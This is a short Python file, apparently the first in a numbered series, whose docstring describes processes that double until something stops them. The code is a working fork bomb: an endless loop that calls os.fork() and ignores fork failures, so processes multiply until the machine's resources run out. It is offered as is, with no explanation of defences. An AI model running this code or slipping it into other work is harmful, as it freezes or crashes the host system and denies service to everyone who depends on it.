"""01: processes that double until something stops them."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
